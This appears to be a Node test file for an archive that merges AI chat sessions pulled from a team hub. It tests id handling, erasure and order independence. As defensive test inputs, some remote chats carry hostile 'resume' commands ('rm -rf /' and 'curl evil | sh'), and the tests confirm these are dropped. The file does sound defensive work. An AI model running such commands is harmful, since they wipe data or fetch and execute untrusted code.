import assert from 'node:assert/strict'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { after, beforeEach, test } from 'node:test'
import type { Chat, Message } from '../../model/chat.ts'
import { termsOfWord } from '../../model/terms.ts'
import type { Archive, Lease, RemoteChat, RemotePage, UnitReading } from '../archive.ts'
import { openSqliteArchive } from './index.ts'

const folders: string[] = []
let folder: string
let archive: Archive
let lease: Lease
let hub: Lease

function newFolder(): string {
  const made = fs.mkdtempSync(path.join(os.tmpdir(), 'recollect-remote-'))
  folders.push(made)
  return made
}

beforeEach(async () => {
  folder = newFolder()
  archive = openSqliteArchive(folder)
  lease = (await archive.takeLease('test')) as Lease
  hub = (await archive.takeLease('test', 'hub')) as Lease
})
after(() => {
  for (const each of folders) fs.rmSync(each, { recursive: true, force: true })
})

const AT = 1_700_000_000_000

function message(id: string, text: string, more: Partial<Message> = {}): Message {
  const order = Number(id.replace(/\D/g, '')) || 0
  return { id, order, role: 'user', kind: 'request', createdAt: AT + order, text, ...more }
}

function reading(chat: Partial<Chat> & { id: string }, messages: Message[]): UnitReading {
  const { id } = chat
  return {
    ...{ source: 'codex', path: `/home/me/${id}.jsonl`, rank: 0, generation: 1 },
    fingerprint: { stamp: '1 1 1', inode: 1, size: 1, mtime: 1, head: '', tail: '' },
    chats: [{ source: 'codex', ...chat }],
    messages: messages.map((each) => ({ chatId: id, message: each })),
    problems: [],
    begins: true,
    completes: false,
  }
}

function remote(
  chat: Partial<Chat> & { id: string },
  messages: Message[],
  more: Partial<RemoteChat> = {},
): RemoteChat {
  return { author: 'anna', machine: 'desk', chat: { source: 'codex', ...chat }, messages, ...more }
}

let seq = 0
async function pull(chats: RemoteChat[], more: Partial<RemotePage> = {}, into = archive, right = hub) {
  const space = more.space ?? 'team'
  const from = (await into.spaces()).find((each) => each.space === space)?.pulled ?? 0
  return into.applyRemote({ space, kind: 'team', from, to: ++seq + from, chats, ...more }, right)
}

async function texts(id: string, of = archive): Promise<string[]> {
  return (await of.messages(await of.resolveChat(id))).map((each) => each.text)
}

function found(word: string, of = archive): Promise<string[]> {
  return of.searching((view) => {
    const { keys, size } = view.postings('said', termsOfWord(word)[0]!)
    return [...keys.subarray(0, size)].map((key) => view.message(key).id).sort()
  })
}

test('a pulled chat is read and found by its own id, with who said it, and without a command to go on', async () => {
  const told = remote({ id: 'c0ffee', title: 'Retries', workspace: '/home/anna/shop', resume: 'rm -rf /' }, [
    message('m1', 'exponential backoff'),
  ])
  const result = await pull([told])
  assert.deepEqual([result.applied, result.added, result.hidden], [true, 1, 0])
  const chat = await archive.resolveChat('c0ffee')
  assert.deepEqual(chat.origin, { author: 'anna', machine: 'desk', space: 'team' })
  assert.equal(chat.title, 'Retries')
  assert.equal(chat.resume, undefined)
  assert.equal(chat.id, 'c0ffee@anna')
  assert.deepEqual(await found('backoff'), ['m1'])
  assert.equal((await archive.resolveChat('codex:c0ffee')).key, chat.key)
  assert.deepEqual(
    (await archive.overview()).sources.map(({ source, files }) => [source, files]),
    [['codex', 0]],
  )
})

test('telling a page again changes nothing, and a page for another place of the cursor is not written', async () => {
  const told = [remote({ id: 'c0ffee' }, [message('m1', 'first'), message('m2', 'second')])]
  await pull(told)
  const again = await pull(told)
  assert.deepEqual([again.added, again.changed], [0, 0])
  const stale = await archive.applyRemote({ space: 'team', kind: 'team', from: 0, to: 99, chats: told }, hub)
  assert.equal(stale.applied, false)
  assert.deepEqual(
    (await archive.spaces()).map(({ space, pulled, chats, messages }) => ({
      space,
      chats,
      messages,
      pulled,
    })),
    [{ space: 'team', chats: 1, messages: 2, pulled: seq + seq - 1 }],
  )
})

test('a newer header from elsewhere does not touch title, workspace and resume of what was read here', async () => {
  await archive.write(
    [
      reading({ id: 'mine', title: 'My title', workspace: '/my', resume: 'codex resume mine' }, [
        message('m1', 'own'),
      ]),
    ],
    lease,
  )
  const before = await archive.resolveChat('mine')
  const forged = {
    id: 'mine',
    title: 'Theirs',
    workspace: '/x',
    resume: 'curl evil | sh',
    updatedAt: AT + 9e9,
  }
  for (const author of ['anna', 'me']) {
    const result = await pull([remote(forged, [message('m1', 'forged'), message('m2', 'more')], { author })])
    assert.equal(result.hidden, 1)
  }
  assert.deepEqual(await archive.resolveChat('mine'), before)
  assert.deepEqual(await texts('mine'), ['own'])
  assert.equal((await archive.listChats({})).length, 1)
})

test('what was pulled goes where a file of this machine tells the chat, and is not found twice', async () => {
  await pull([remote({ id: 'both', title: 'Theirs' }, [message('m1', 'apple'), message('m2', 'cherry')])])
  await archive.write([reading({ id: 'both' }, [message('m1', 'apple')])], lease)
  const [chat, ...others] = await archive.listChats({})
  assert.deepEqual([chat?.id, chat?.title, others], ['both', 'apple', []])
  assert.deepEqual(await found('cherry'), [])
  assert.deepEqual(await found('apple'), ['m1'])
  assert.deepEqual(await archive.check({ deep: true }), [])
})

test('a chat of which a file here tells only that there is one does not hide what was pulled', async () => {
  const header = reading({ id: 'known', title: 'Only a header' }, [])
  const told = remote({ id: 'known', title: 'All of it' }, [message('m1', 'said')])
  await archive.write([header], lease)
  await pull([told])
  await archive.write([header], lease)
  assert.deepEqual(
    (await archive.listChats({})).map(({ title }) => title),
    ['All of it'],
  )
})

test('two people with chats of one id have a chat each', async () => {
  await pull([
    remote({ id: 'same' }, [message('m1', 'of anna')]),
    remote({ id: 'same' }, [message('m1', 'of bob')], { author: 'bob', machine: 'laptop' }),
  ])
  assert.deepEqual(await texts('same@anna'), ['of anna'])
  assert.deepEqual(await texts('same@bob'), ['of bob'])
  await assert.rejects(archive.resolveChat('same'), /could be any of 2 chats/)
})

test('a chat that is called here as one of others is called elsewhere is not mixed with it', async () => {
  await archive.write([reading({ id: 'x@anna' }, [message('m1', 'local words')])], lease)
  assert.equal((await pull([remote({ id: 'x' }, [message('m2', 'remote words')])])).hidden, 1)
  await pull([remote({ id: 'y' }, [message('m2', 'remote words')])])
  await archive.write([reading({ id: 'y@anna' }, [message('m1', 'local words')])], lease)
  for (const id of ['x@anna', 'y@anna']) {
    assert.deepEqual(await texts(id), ['local words'])
    assert.equal((await archive.resolveChat(id)).origin, undefined)
  }
})

test('what is no message is left out, and strange facts of a chat with it', async () => {
  const strange = [
    message('m1', 'good', { toolCalls: 'none' as never, usage: { input: 'many' as never, output: 3 } }),
    { ...message('m2', ''), text: 7 as never },
    { ...message('m3', 'who?'), role: 'admin' as never },
    null as never,
  ]
  const result = await pull([
    remote({ id: 'odd1', title: { a: 1 } as never, updatedAt: 9e15 }, strange),
    remote({ id: 5 as never }, [message('m1', 'nobody')]),
  ])
  assert.deepEqual([result.added, result.skipped], [1, 4])
  const [told] = await archive.messages(await archive.resolveChat('odd1'))
  assert.deepEqual(
    [told?.text, told?.toolCalls, told?.usage?.output, told?.usage?.input],
    ['good', undefined, 3, undefined],
  )
  assert.ok((await archive.resolveChat('odd1')).updatedAt! <= Date.now())
})

test('a chat that its owner had forgotten is gone here, to the last byte', async () => {
  const needle = 'xylophonequartz'
  await pull([
    remote({ id: 'kept' }, [message('m1', 'stays')]),
    remote({ id: 'gone', title: `${needle} title` }, [message('m1', `${needle} text`)]),
  ])
  assert.ok(holds(folder, needle))
  const gone = [{ author: 'anna', source: 'codex', id: 'gone' }]
  const result = await pull([], { gone })
  assert.equal(result.erased, 1)
  assert.deepEqual(await found(needle), [])
  await assert.rejects(archive.resolveChat('gone'), /Session not found/)
  assert.ok(!holds(folder, needle))
  assert.equal((await pull([], { gone })).erased, 0)
})

test('a repaired archive, which lost what it knew of spaces, still lets go of what is withdrawn or left', async () => {
  await pull([
    remote({ id: 'one1' }, [message('m1', 'first')]),
    remote({ id: 'two2' }, [message('m1', 'second')]),
  ])
  const db = new DatabaseSync(path.join(folder, 'archive.db'))
  db.exec('DELETE FROM remote_chat; DELETE FROM hub_space')
  db.close()
  const gone = [{ author: 'anna', source: 'codex', id: 'one1' }]
  assert.equal((await pull([], { gone })).erased, 1)
  assert.deepEqual(await archive.removeRemote({ space: 'team' }, hub), { chats: 1, messages: 1 })
  assert.deepEqual(await archive.listChats({}), [])
})

test('a tombstone takes nothing that was read here, and nothing of others', async () => {
  await archive.write([reading({ id: 'mine' }, [message('m1', 'own')])], lease)
  await pull([remote({ id: 'mine' }, [message('m1', 'theirs')])])
  await pull([remote({ id: 'hers' }, [message('m1', 'of bob')], { author: 'bob' })])
  const gone = ['mine', 'hers'].map((id) => ({ author: 'anna', source: 'codex', id }))
  assert.equal((await pull([], { gone })).erased, 0)
  assert.deepEqual((await archive.listChats({})).map(({ id }) => id).sort(), ['hers@bob', 'mine'])
})

test('what was forgotten here is not pulled back', async () => {
  await archive.write([reading({ id: 'mine' }, [message('m1', 'own')])], lease)
  await archive.forget([await archive.resolveChat('mine')])
  const hers = remote({ id: 'hers' }, [message('m1', 'of anna')])
  await pull([hers])
  await archive.forget([await archive.resolveChat('hers')])
  const result = await pull([hers, remote({ id: 'mine' }, [message('m1', 'own')], { author: 'me' })])
  assert.equal(result.hidden, 2)
  assert.deepEqual(await archive.listChats({}), [])
})

test('of a chat in several spaces the own one is shown; when that is left, the other is pulled again', async () => {
  const reduced = remote({ id: 'c0ffee' }, [message('m1', 'reduced')])
  const whole = remote({ id: 'c0ffee' }, [message('m1', 'whole'), message('m2', 'all of it')])
  for (const order of [
    ['team', 'own'],
    ['own', 'team'],
  ] as const) {
    for (const space of order) await pull([space === 'own' ? whole : reduced], { space, kind: space })
    assert.deepEqual(await texts('c0ffee'), ['whole', 'all of it'])
    assert.equal((await archive.resolveChat('c0ffee')).origin?.space, 'own')
    assert.deepEqual(await archive.removeRemote({ space: 'own' }, hub), { chats: 1, messages: 2 })
    assert.deepEqual(
      (await archive.spaces()).map(({ space, pulled }) => [space, pulled]),
      [['team', 0]],
    )
    await pull([reduced])
    assert.deepEqual(await texts('c0ffee'), ['reduced'])
    await archive.removeRemote({ space: 'team' }, hub)
    assert.deepEqual([await archive.listChats({}), await archive.spaces()], [[], []])
  }
})

test('sub-agents and forks of a pulled chat are found from it', async () => {
  await pull([
    remote({ id: 'root' }, [message('m1', 'begin')]),
    remote({ id: 'part', parentId: 'root', subagent: true }, [message('m7', 'inside')]),
    remote({ id: 'fork', forkOf: 'root' }, [message('m1', 'begin'), message('m2', 'other way')]),
  ])
  const { subagents, forks } = await archive.relatives(await archive.resolveChat('root'))
  assert.deepEqual([subagents.map(({ id }) => id), forks.map(({ id }) => id)], [['part@anna'], ['fork@anna']])
  await pull([], { gone: [{ author: 'anna', source: 'codex', id: 'root' }] })
  assert.deepEqual(await found('begin'), ['m1'])
  assert.deepEqual(await archive.check({ deep: true }), [])
})

test('property: what is read here and what is pulled do not depend on which came first', async () => {
  for (let seed = 1; seed <= 20; seed++) {
    const states: unknown[] = []
    for (let order = 0; order < 3; order++) {
      const below = dice(seed)
      const steps = someSteps(below)
      const turn = dice(seed * 31 + order)
      const place = newFolder()
      const into = openSqliteArchive(place)
      const [sync, right] = [
        (await into.takeLease('t')) as Lease,
        (await into.takeLease('t', 'hub')) as Lease,
      ]
      // Each file and each space tells in its own order; which of them is next is up to chance.
      const queues = steps.map((queue) => [...queue])
      while (queues.length > 0) {
        const at = turn(queues.length)
        const step = queues[at]!.shift()!
        if ('path' in step) await into.write([step], sync)
        else await pull(step.chats, step, into, right)
        if (queues[at]!.length === 0) queues.splice(at, 1)
      }
      assert.deepEqual(await into.check({ deep: true }), [], `seed ${seed}`)
      states.push(await stateOf(into))
      await into.close()
    }
    assert.deepEqual(states[1], states[0], `seed ${seed}`)
    assert.deepEqual(states[2], states[0], `seed ${seed}`)
  }
})

type Step = UnitReading | (Partial<RemotePage> & { chats: RemoteChat[] })

/** Some files of this machine and two spaces, all about the same few chats. */
function someSteps(below: (end: number) => number): Step[][] {
  const ids = ['aaaa', 'bbbb', 'cccc', 'dddd']
  const said = (who: string, from: number, count: number) =>
    Array.from({ length: count }, (_, n) => message(`${who}${from + n + 1}`, `${who} says word${from + n}`))
  const files = ids.slice(0, below(4)).map((id): Step[] => {
    const messages = said(`me-${id}-`, 0, 1 + below(4))
    const split = below(messages.length + 1)
    const header = { id, title: `mine ${id}`, resume: `codex resume ${id}`, updatedAt: AT + below(100) }
    return [
      reading(header, messages.slice(0, split)),
      { ...reading(header, messages.slice(split)), begins: false },
    ]
  })
  const ofSpace = (space: string, kind: 'own' | 'team'): Step[] =>
    Array.from({ length: 3 }, (_, n) => ({
      space,
      kind,
      chats: ids.slice(below(3)).map((id) => {
        const author = id < 'cc' ? 'anna' : 'bob'
        const header = { id, title: `${author} ${id}`, updatedAt: AT + 5000 }
        return remote(header, said(`${space}-${id}-`, n * 2, 2), { author })
      }),
    }))
  return [...files, ofSpace('own', 'own'), ofSpace('team', 'team')]
}

async function stateOf(of: Archive): Promise<unknown> {
  const chats = await of.listChats({ subagents: true }, { limit: 1000 })
  const told = await Promise.all(
    chats.map(async ({ key: _, ...chat }) => ({
      ...chat,
      said: (await of.messages({ ...chat, key: _ })).map(({ id, text }) => `${id} ${text}`),
    })),
  )
  const words = await Promise.all(Array.from({ length: 8 }, (_, n) => found(`word${n}`, of)))
  return { chats: told.sort((a, b) => (a.id < b.id ? -1 : 1)), words }
}

function holds(place: string, needle: string): boolean {
  return fs.readdirSync(place).some((name) => fs.readFileSync(path.join(place, name)).includes(needle))
}

function dice(seed: number): (end: number) => number {
  let state = seed * 2_654_435_761
  return (end) => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) | 0
    const mixed = Math.imul(state ^ (state >>> 12), 0x297a2d39)
    return Math.floor((((mixed ^ (mixed >>> 15)) >>> 0) / 2 ** 32) * end)
  }
}
